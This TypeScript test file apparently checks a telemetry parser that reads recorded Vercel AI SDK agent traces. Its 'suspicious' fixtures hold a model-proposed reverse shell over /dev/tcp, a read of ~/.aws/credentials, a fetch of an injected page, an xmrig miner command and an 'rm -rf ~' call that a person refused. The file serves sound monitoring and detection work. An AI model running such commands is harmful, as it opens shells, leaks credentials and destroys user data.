import { fixture, line, step, tell } from '../../test/support/recorded';
import type { SpanRecord } from '../../contracts/telemetry';

const ofModels = (name: string) => tell(fixture(name)).events.filter(({ action }) => action.type === 'model.call');

describe('AI SDK 7', () => {
  const { events, ignored } = tell(fixture('vercel-ai/7-suspicious-full'));

  it('tells what the model asked for and what ran under one call id', () => {
    expect(step(events, 1)).toEqual([
      "chat gpt-4.1 proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
      "execute_tool bash completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
    ]);
    expect(step(events, 2)).toEqual([
      'chat gpt-4.1 proposed: file.read path=/home/dev/.aws/credentials',
      'execute_tool read_file completed: file.read path=/home/dev/.aws/credentials (ok)',
    ]);
    expect(step(events, 11)).toEqual([
      'execute_tool web_fetch completed: net.fetch url=http://127.0.0.1:42779/injected.html (ok)',
    ]);
  });

  it('takes what a command printed out of the app’s JSON', () => {
    const ran = events.find((event) => event.callId?.includes('S01x') && event.phase === 'completed');
    expect(ran?.outcome).toEqual({
      status: 'ok',
      exitCode: 1,
      output: 'bash: connect: Connection refused\nbash: line 1: /dev/tcp/127.0.0.1/9: Connection refused\n',
      durationMs: expect.any(Number),
    });
    const key = events.find((event) => event.callId?.includes('S02x') && event.phase === 'completed');
    expect(key?.outcome?.output).toMatch(/^\[default\]\naws_access_key_id = /);
    expect(key?.visibility).toBeUndefined();
  });

  it('keys all of a run by its trace, since no record names a session', () => {
    expect(new Set(events.map(({ scope }) => scope))).toEqual(new Set(['trace:e62ddb43763e1ede3495a5497383fe62']));
  });

  it('leaves the agent span out, which repeats calls and tokens', () => {
    expect(ofModels('vercel-ai/7-suspicious-full').map(line)).toEqual([
      'chat gpt-4.1 completed: model.call provider=openai model=gpt-4.1 inputTokens=5100 cachedInputTokens=4096 outputTokens=74 (ok)',
      'chat gpt-4.1 completed: model.call provider=openai model=gpt-4.1 inputTokens=5300 cachedInputTokens=4096 outputTokens=61 (ok)',
      'chat gpt-4.1 completed: model.call provider=openai model=gpt-4.1 inputTokens=5500 cachedInputTokens=4096 outputTokens=62 (ok)',
    ]);
    expect(ignored).toContainEqual({ dialect: 'vercel-ai', reason: 'duplicate', count: 1 });
    expect(events.filter(({ action }) => action.type === 'prompt').map(line)).toHaveLength(1);
  });
});

describe('AI SDK 5', () => {
  const { events, links } = tell(fixture('vercel-ai/5-suspicious-full'));

  it('reads the older names', () => {
    expect(step(events, 5)).toEqual([
      'ai.toolCall completed: exec command=./xmrig -o stratum+tcp://127.0.0.1:3333 -u x (ok, exit 127)',
    ]);
    expect(step(events, 0)).toHaveLength(2);
    expect(events.filter(({ action }) => action.type === 'prompt').map(({ source }) => source.record)).toEqual([
      'ai.generateText',
    ]);
    expect(ofModels('vercel-ai/5-suspicious-full')).toHaveLength(3);
  });

  it('takes session and user from the metadata that the app set', () => {
    expect(new Set(events.map(({ scope }) => scope))).toEqual(new Set(['session:vercel-ai:session-0001']));
    expect(events[0]?.user).toBe('vercel-ai:user-0001');
    expect(links.map(({ kind }) => kind)).toContain('trace-session');
  });

  it('copies no header', () => {
    const body = fixture('vercel-ai/5-suspicious-full')[0]?.records[0];
    expect(body?.attributes['ai.request.headers.authorization']).toBe('Bearer decoy-header-value');
    expect(JSON.stringify(events)).not.toContain('decoy-header-value');
  });

  it('tells a call that a person refused, which has no tool span', () => {
    const spans = fixture('vercel-ai/5-suspicious-full')[0]?.records ?? [];
    const inner = spans.find((one): one is SpanRecord => one.kind === 'span' && one.name.endsWith('doGenerate'));
    if (!inner) throw new Error('a model span expected');
    const call = { type: 'tool-call', toolCallId: 'call_r', toolName: 'bash', input: { command: 'rm -rf ~' } };
    const output = { type: 'execution-denied', reason: 'not this' };
    const messages = [
      { role: 'assistant', content: [call] },
      { role: 'tool', content: [{ type: 'tool-result', toolCallId: 'call_r', toolName: 'bash', output }] },
    ];
    const attributes = { ...inner.attributes, 'ai.prompt.messages': JSON.stringify(messages) };
    const told = tell([{ signal: 'traces', records: [{ ...inner, attributes }], losses: [] }]).events;
    const refused = told.find(({ callId }) => callId === 'call_r');
    expect(refused && line(refused)).toBe('ai.generateText.doGenerate denied: exec command=rm -rf ~ (denied)');
    expect(refused?.at).toBe(Number(inner.startUnixNano / 1_000n) / 1_000);
  });

  it('reads a benign run: failures stay failures of the command', () => {
    const benign = tell(fixture('vercel-ai/5-benign-full')).events;
    expect(step(benign, 13)).toEqual(['ai.toolCall completed: exec command=ls no-such-dir; exit 3 (ok, exit 3)']);
  });
});

it.each(['vercel-ai/7-suspicious-nocontent', 'vercel-ai/5-suspicious-nocontent'])(
  '%s says what would show it',
  (name) => {
    const { events } = tell(fixture(name));
    const ran = events.filter(({ action }) => action.type === 'exec');
    expect(ran.length).toBeGreaterThan(4);
    for (const { action, visibility } of ran) {
      expect(action).toEqual({ type: 'exec', tool: 'bash' });
      expect(visibility).toEqual([
        { field: 'outcome.output', state: 'hidden', setting: 'recordOutputs: true' },
        { field: 'action.command', state: 'hidden', setting: 'recordInputs: true' },
      ]);
    }
    expect(events.some(({ action }) => action.type === 'prompt')).toBe(false);
  },
);
